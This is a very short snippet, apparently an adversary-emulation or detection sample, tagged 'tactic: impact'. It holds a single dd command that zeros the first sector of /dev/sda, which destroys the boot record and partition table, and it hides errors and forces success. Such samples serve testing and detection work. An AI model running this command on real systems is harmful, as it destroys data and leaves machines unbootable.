# tactic: impact
# overwrite the start of a disk with zeros
dd if=/dev/zero of=/dev/sda bs=512 count=1 2>/dev/null; true
